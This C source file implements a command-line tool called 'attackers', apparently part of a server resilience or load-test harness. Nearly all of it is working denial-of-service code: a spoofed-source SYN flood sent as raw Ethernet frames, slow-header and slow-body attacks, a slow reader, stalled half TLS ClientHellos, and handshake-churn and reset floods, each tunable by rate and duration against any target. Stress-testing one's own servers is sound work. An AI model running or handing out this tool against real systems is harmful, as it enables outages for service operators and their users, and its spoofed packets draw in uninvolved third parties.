/* Callers that mean harm, at a stated rate. See usage. */
#include "load.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

static const char usage[] =
    "usage: attackers KIND --target A --name HOST [options]\n"
    "\n"
    "Attacks for some seconds, then prints a JSON line of what it did and how it ended.\n"
    "\n"
    "  syn           SYNs from spoofed addresses, raw frames (needs --interface, --mac)\n"
    "  stall         half a ClientHello, then nothing\n"
    "  slow-head     a head, one byte a second\n"
    "  slow-body     a head, then a body of one byte a second\n"
    "  slow-reader   asks for a large answer and reads none of it\n"
    "  churn         TLS handshake and close, over and over\n"
    "  abort         TCP connect and reset, over and over\n"
    "  spin          nothing but eating the processor: the control for the others\n"
    "\n"
    "  --rate N          SYNs, handshakes or new connections a second; 0: unbounded (1000)\n"
    "  --connections N   held at one time (500)\n"
    "  --seconds S       (5)\n"
    "  --source A[-B]    addresses to connect from; of syn: to pretend\n"
    "  --target A        address to connect to\n"
    "  --port P          (443)\n"
    "  --name HOST       SNI and Host\n"
    "  --path PATH       of the request (/v1/bench)\n"
    "  --token-file F    bearer token\n"
    "  --interface I --mac M   of syn\n";

enum { BATCH = 256, FRAMES = 64, FRAME = 14 + 20 + 24 };
enum kind { SYN, STALL, SLOW_HEAD, SLOW_BODY, SLOW_READER, CHURN, ABORT, SPIN, KINDS };
static const char *const kinds[] = {"syn",         "stall", "slow-head", "slow-body",
                                    "slow-reader", "churn", "abort",     "spin"};
enum state { DOWN, CONNECTING, HANDSHAKE, OPEN };

struct foe {
    int fd;
    SSL *ssl;
    enum state state;
    double next; /* when to send the next byte */
    size_t sent;
};

struct load {
    enum kind kind;
    unsigned connections;
    struct load_range source, target;
    uint16_t port;
    const char *name, *interface, *mac;
    double seconds, began;
    char request[20000];
    size_t request_n;
    SSL_CTX *ctx;
    int epoll;
    struct foe *all;
    struct load_pace pace;
    unsigned up;
    unsigned long opened, refused, handshakes, ended, bytes, frames;
};

/* -------------------------------------------------------------------- SYN flood */

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t sum)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void make_syn(const struct load *l, uint8_t *f, uint32_t i)
{
    struct iphdr *ip = (struct iphdr *)(f + 14);
    struct tcphdr *t = (struct tcphdr *)(f + 34);
    struct in_addr src = load_address(&l->source, i), dst = load_address(&l->target, 0);

    memset(ip, 0, 44);
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons(44);
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = src.s_addr;
    ip->daddr = dst.s_addr;
    ip->check = fold(sum16(f + 14, 20, 0));
    t->source = htons((uint16_t)(1024 + random() % 64000));
    t->dest = htons(l->port);
    t->seq = (uint32_t)random();
    t->doff = 6;
    t->syn = 1;
    t->window = htons(64240);
    memcpy(f + 54, "\x02\x04\x05\xb4", 4);
    t->check = fold(sum16(f + 26, 8, sum16(f + 34, 24, IPPROTO_TCP + 24)));
}

static void syn_flood(struct load *l)
{
    static uint8_t frames[FRAMES][FRAME];
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
    struct iovec io[FRAMES];
    struct mmsghdr m[FRAMES];
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP)), one = 1;
    unsigned b[6];

    if (!l->interface || !l->mac || fd < 0 ||
        sscanf(l->mac, "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4, b + 5) != 6)
        load_die("syn needs --interface, --mac and the right to raw sockets");
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
    to.sll_ifindex = (int)if_nametoindex(l->interface);
    if (bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0)
        load_die("%s: %s", l->interface, strerror(errno));
    memset(m, 0, sizeof(m));
    for (int i = 0; i < FRAMES; i++) {
        for (int j = 0; j < 6; j++)
            frames[i][j] = (uint8_t)b[j];
        memcpy(&frames[i][6], "\x02\x00\x00\x00\x66\x66\x08\x00", 8);
        io[i] = (struct iovec){frames[i], FRAME};
        m[i].msg_hdr.msg_iov = &io[i];
        m[i].msg_hdr.msg_iovlen = 1;
    }
    while (load_now() - l->began < l->seconds) {
        unsigned n = load_allowed(&l->pace, FRAMES);
        int sent;

        for (unsigned i = 0; i < n; i++)
            make_syn(l, frames[i], (uint32_t)random());
        sent = n ? sendmmsg(fd, m, n, 0) : 0;
        if (sent > 0) {
            l->pace.done += (unsigned)sent;
            l->frames += (unsigned)sent;
        } else {
            usleep(200);
        }
    }
}

/* ------------------------------------------------------------- connections of foes */

static void watch(struct load *l, struct foe *f, int how, uint32_t what)
{
    struct epoll_event e = {.events = what, .data.ptr = f};

    epoll_ctl(l->epoll, how, f->fd, &e);
}

static void end(struct load *l, struct foe *f, bool by_box)
{
    l->ended += by_box;
    if (f->state == OPEN || f->state == HANDSHAKE)
        l->up--;
    SSL_free(f->ssl);
    close(f->fd);
    *f = (struct foe){.fd = -1};
}

static void open_one(struct load *l, struct foe *f)
{
    int small = 2048;

    f->fd = load_connect(load_address(&l->source, l->opened), load_address(&l->target, 0), l->port);
    l->opened++;
    l->pace.done++;
    if (f->fd < 0) {
        l->refused++;
        return;
    }
    if (l->kind == SLOW_READER)
        setsockopt(f->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
    f->state = CONNECTING;
    watch(l, f, EPOLL_CTL_ADD, EPOLLOUT);
}

/* A record header that promises 512 bytes and a ClientHello's first ones. */
static void send_half_hello(struct load *l, struct foe *f)
{
    static const uint8_t half[] = {0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3, 1, 2, 3, 4};

    if (send(f->fd, half, sizeof(half), MSG_NOSIGNAL) != sizeof(half))
        end(l, f, true);
}

static void reset(struct foe *f)
{
    struct linger now = {1, 0};

    setsockopt(f->fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
}

static void connected(struct load *l, struct foe *f)
{
    f->state = HANDSHAKE;
    l->up++;
    if (l->kind == ABORT) {
        reset(f);
        end(l, f, false);
        return;
    }
    watch(l, f, EPOLL_CTL_MOD, EPOLLIN);
    if (l->kind == STALL) {
        f->state = OPEN;
        send_half_hello(l, f);
        return;
    }
    f->ssl = load_client(l->ctx, f->fd, l->name);
}

static void opened(struct load *l, struct foe *f)
{
    l->handshakes++;
    f->state = OPEN;
    f->next = load_now();
    if (l->kind == CHURN) {
        end(l, f, false);
        return;
    }
    if (l->kind == SLOW_READER) {
        if (SSL_write(f->ssl, l->request, (int)l->request_n) <= 0)
            end(l, f, true);
        else
            watch(l, f, EPOLL_CTL_MOD, EPOLLRDHUP); /* nothing is ever read */
    } else if (l->kind == SLOW_BODY) {
        if (SSL_write(f->ssl, l->request, (int)l->request_n) <= 0)
            end(l, f, true);
    }
}

static void on_ready(struct load *l, struct foe *f, uint32_t what)
{
    char waste[4096];
    int n;

    if (f->state == CONNECTING) {
        if (what & (EPOLLERR | EPOLLHUP)) {
            l->refused++;
            end(l, f, false);
            return;
        }
        connected(l, f);
    }
    if (f->state == HANDSHAKE) {
        n = SSL_do_handshake(f->ssl);
        if (n == 1)
            opened(l, f);
        else if (SSL_get_error(f->ssl, n) != SSL_ERROR_WANT_READ)
            end(l, f, true);
    } else if (f->state == OPEN && what & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
        end(l, f, true);
    } else if (f->state == OPEN && l->kind == STALL) {
        ssize_t got = recv(f->fd, waste, sizeof(waste), 0);

        if (got == 0 || (got < 0 && errno != EAGAIN))
            end(l, f, true);
    } else if (f->state == OPEN && l->kind != SLOW_READER) {
        n = SSL_read(f->ssl, waste, sizeof(waste));
        if (n <= 0 && SSL_get_error(f->ssl, n) != SSL_ERROR_WANT_READ)
            end(l, f, true);
    }
    ERR_clear_error();
}

/* One byte a second. */
static void drip(struct load *l, struct foe *f, double now)
{
    static const char more[] = "a";
    const char *byte = l->kind == SLOW_HEAD && f->sent < l->request_n ? l->request + f->sent : more;

    if (f->state != OPEN || now < f->next || (l->kind != SLOW_HEAD && l->kind != SLOW_BODY))
        return;
    f->next = now + 1;
    f->sent++;
    l->bytes++;
    if (SSL_write(f->ssl, byte, 1) != 1)
        end(l, f, true);
}

static void turn(struct load *l)
{
    struct epoll_event e[BATCH];
    double now = load_now();
    int n;

    for (unsigned i = 0; i < l->connections; i++) {
        struct foe *f = &l->all[i];

        if (f->state == DOWN && load_allowed(&l->pace, 1))
            open_one(l, f);
        else
            drip(l, f, now);
    }
    n = epoll_wait(l->epoll, e, BATCH, 2);
    for (int i = 0; i < n; i++)
        on_ready(l, e[i].data.ptr, e[i].events);
}

static void prepare(struct load *l, const char *path, const char *token)
{
    bool body = l->kind == SLOW_BODY;
    int n = snprintf(l->request, sizeof(l->request), "%s %s HTTP/1.1\r\nHost: %s\r\n%s%s%s%s\r\n",
                     body ? "POST" : "GET", path, l->name, token ? "Authorization: Bearer " : "",
                     token ? token : "", token ? "\r\n" : "",
                     body ? "Content-Type: application/json\r\nContent-Length: 100000\r\n" : "");

    if (n <= 0 || n >= (int)sizeof(l->request))
        load_die("the request is too long");
    l->request_n = (size_t)n;
    l->epoll = epoll_create1(EPOLL_CLOEXEC);
    l->all = calloc(l->connections, sizeof(*l->all));
    l->ctx = load_client_context(NULL, false);
    if (!l->all || l->epoll < 0)
        load_die("out of memory");
}

static void finish(struct load *l)
{
    for (unsigned i = 0; i < l->connections; i++)
        SSL_free(l->all[i].ssl);
    free(l->all);
    SSL_CTX_free(l->ctx);
}

static void attack(struct load *l)
{
    volatile unsigned long spins = 0;

    l->began = l->pace.began = load_now();
    if (l->kind == SYN)
        syn_flood(l);
    while (load_now() - l->began < l->seconds) {
        if (l->kind == SPIN)
            spins = spins + 1;
        else
            turn(l);
    }
}

static enum kind kind_of(const char *text)
{
    for (int i = 0; text && i < KINDS; i++)
        if (strcmp(text, kinds[i]) == 0)
            return (enum kind)i;
    if (text && (strcmp(text, "--help") == 0 || strcmp(text, "-h") == 0)) {
        fputs(usage, stdout);
        exit(0);
    }
    load_die("%s", usage);
}

int main(int argc, char **argv)
{
    static const struct option known[] = {
        {"connections", 1, NULL, 'c'}, {"rate", 1, NULL, 'r'},   {"seconds", 1, NULL, 's'},
        {"source", 1, NULL, 'f'},      {"target", 1, NULL, 't'}, {"port", 1, NULL, 'p'},
        {"name", 1, NULL, 'n'},        {"path", 1, NULL, 'u'},   {"token-file", 1, NULL, 'k'},
        {"interface", 1, NULL, 'i'},   {"mac", 1, NULL, 'm'},    {NULL, 0, NULL, 0},
    };
    struct load l = {.connections = 500, .port = 443, .seconds = 5, .pace = {.rate = 1000}};
    const char *path = "/v1/bench";
    char *token = NULL;
    int c;

    l.kind = kind_of(argc > 1 ? argv[1] : NULL);
    optind = 2;
    while ((c = getopt_long(argc, argv, "", known, NULL)) != -1) {
        switch (c) {
        case 'c':
            l.connections = (unsigned)load_number(optarg, "connections");
            break;
        case 'r':
            l.pace.rate = (double)load_number(optarg, "rate");
            break;
        case 's':
            l.seconds = (double)load_number(optarg, "seconds");
            break;
        case 'f':
            l.source = load_range_of(optarg);
            break;
        case 't':
            l.target = load_range_of(optarg);
            break;
        case 'p':
            l.port = (uint16_t)load_number(optarg, "port");
            break;
        case 'n':
            l.name = optarg;
            break;
        case 'u':
            path = optarg;
            break;
        case 'k':
            token = load_file(optarg);
            break;
        case 'i':
            l.interface = optarg;
            break;
        case 'm':
            l.mac = optarg;
            break;
        default:
            fputs(usage, stderr);
            return 64;
        }
    }
    if (l.kind != SPIN && (!l.target.count || !l.name))
        load_die("%s", usage);
    signal(SIGPIPE, SIG_IGN);
    load_raise_files();
    prepare(&l, path, token);
    attack(&l);
    printf(
        "{\"kind\":\"%s\",\"opened\":%lu,\"refused\":%lu,\"handshakes\":%lu,\"ended_by_box\":%lu,"
        "\"up\":%u,\"bytes\":%lu,\"frames\":%lu,\"seconds\":%.2f}\n",
        kinds[l.kind], l.opened, l.refused, l.handshakes, l.ended, l.up, l.bytes, l.frames,
        load_now() - l.began);
    finish(&l);
    free(token);
    return 0;
}
